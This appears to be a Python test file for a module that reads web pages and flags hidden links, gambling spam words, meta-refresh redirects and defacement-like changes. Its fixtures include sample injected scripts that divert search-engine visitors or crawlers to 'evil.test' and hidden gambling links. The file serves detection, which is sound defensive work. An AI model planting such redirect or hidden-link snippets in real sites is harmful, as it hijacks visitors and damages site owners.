"""What is read of a page: what it shows, what it uses, what it hides."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest.portals import page
from ingest.portals.page import Hidden, difference, read
from tests.websites import PAGE

URL = "https://www.city.example.gov.cn/a/"


def hidden(body: str) -> dict[str, str]:
    return {link.host: link.how for link in read(body, URL).hidden}


def test_what_a_page_uses_and_leads_to() -> None:
    found = read(
        "<head><title> A  page </title><base href='//static.example.net/'></head>"
        "<script src=/own.js></script><script src='https://CDN.example.net:8443/a.js'></script>"
        "<iframe src=//frames.example.net/x></iframe><form action='https://forms.example.net/'></form>"
        "<a href=https://www.city.example.gov.cn/b>b</a><a href='http://links.example.net'>c</a>"
        "<a href='javascript:void(0)'>d</a><a href='mailto:a@example.net'>e</a><a href=#top>f</a>"
        "<a href='http:\\\\back.example.net/'>g</a><embed src=//flash.example.net/f.swf>",
        URL,
    )
    assert found.title == "A page"
    assert found.scripts == ("cdn.example.net", "static.example.net")
    assert found.frames == ("flash.example.net", "frames.example.net")
    assert found.forms == ("forms.example.net",)
    assert found.links == ("back.example.net", "links.example.net", "static.example.net")
    assert not found.hidden


@pytest.mark.parametrize(
    ("body", "how"),
    [
        ("<div style='display:none'><p>{}</div><a href=//b.test>y</a>", "display"),
        ("<style>.z{{position:absolute;left:-999px}}</style><span class='y z'>{}</span>", "offscreen"),
        ("<body bgcolor=#000><font color='#000000'><i style='color:black'>{}</i></font>", "colour"),
        ("<marquee height=1 width=1>{}</marquee>", "size"),
        ("<iframe width=0 height=0 src=//a.test></iframe>", "size"),
        ("<script>document.write('<a href=\"http://a.test/\">x</a>')</script>", "script"),
        ("<div id=q>{}</div>", ""),
        ("<script>document.getElementById('q').style.display='none'</script><div id=q>{}</div>", "display"),
        ("<p style=display:none><div>{}</div>", ""),  # a paragraph holds no block
        ("<div hidden><a href=/own>x</a></div>", ""),
        ("<noscript>{}</noscript>", ""),
    ],
)  # fmt: skip
def test_links_that_people_do_not_see(body: str, how: str) -> None:
    assert hidden(body.format("<a href=//a.test>x</a>")) == ({"a.test": how} if how else {})


def test_a_hidden_link_says_what_it_sells() -> None:
    found = read("<div style=display:none><a href=//a.test><b>澳门</b>葡京</a></div>", URL)
    assert found.hidden == (Hidden("a.test", "display", "澳门 葡京"),)
    assert found.words == ("澳门葡京",)


@pytest.mark.parametrize(
    ("script", "host"),
    [
        ("if(document.referrer.indexOf('baidu')>0){location.href='http://evil.test/'}", "evil.test"),
        ("if(/spider|Googlebot/i.test(navigator.userAgent))document.write('<script src=//evil.test/x.js>')",
         "evil.test"),
        ("if(/Android/.test(navigator.userAgent))location.replace('https://m.city.example.gov.cn/')", ""),
        ("var h=document.createElement('script');h.src='https://hm.baidu.com/h.js';h=document.referrer", ""),
    ],
)  # fmt: skip
def test_scripts_that_lead_away_who_comes_from_a_search(script: str, host: str) -> None:
    assert read(f"<script>{script}</script>", URL).diverts == host


@pytest.mark.parametrize(
    ("content", "host"),
    [("0;url=http://evil.test/", "evil.test"), ("5; URL='//evil.test'", "evil.test"),
     ("30", ""), ("0;url=/own", "")],
)  # fmt: skip
def test_pages_that_lead_away_by_themselves(content: str, host: str) -> None:
    assert read(f'<meta http-equiv=Refresh content="{content}">', URL).refresh == host


def test_what_is_ignored_changes_no_text_but_hides_nothing() -> None:
    clock = "<div class='box clock'>{}<a href=//a.test style=display:none>博彩</a></div>"
    one, other = (read(PAGE + clock.format(text * 400), URL, (".clock",)) for text in ("一二三", "四五六"))
    assert difference(one, other) == 0
    assert one.hidden
    assert difference(*(read(PAGE + clock.format(text * 400), URL) for text in ("一二三", "四五六"))) > 0
    assert read("<b id=x>甲</b><i>乙</i>", URL, ("#x", "i")).letters == 0


def test_differences() -> None:
    page_, other = read(PAGE, URL), read(PAGE.replace("通知", "公告"), URL)
    assert difference(page_, page_) == 0
    assert 0 < difference(page_, other) < 700
    assert difference(page_, read("<h1>hacked</h1>" + "we were here " * 50, URL)) > 950
    assert difference(page_, read("", URL)) == 1000
    short = read("<div><p>一</p></div>", URL)
    assert difference(short, read("<div><p>二</p></div>", URL)) == 0  # hardly any text: the build counts


NESTED = ("<div>", "<p>", "</p>", "</div>", "<a href=//x.test>", "</a>", "<b style=display:none>",
          "</b>", "<li>", "<table><tr><td>", "x", "<script>", "</script>",
          "<base href=//y.test/>")  # fmt: skip


@settings(max_examples=40)
@given(st.lists(st.sampled_from(NESTED), max_size=120).map("".join) | st.text(max_size=200))
def test_anything_is_read(text: str) -> None:
    found = read(text, URL)
    assert difference(found, found) == 0
    assert all(page.sound(host) for host in found.hosts)


def test_depth_and_numbers_are_bounded() -> None:
    many = "".join(
        f"<div><a href=//h{i}.example.com>x</a><script src=//s{i}.example.com></script>" for i in range(2000)
    )
    found = read(many, URL)
    assert len(found.links) == len(found.scripts) == page._HOSTS
    assert read("<div>" * 5000 + "</div>" * 5000 + "<a href=//a.test>x</a>", URL).links == ("a.test",)
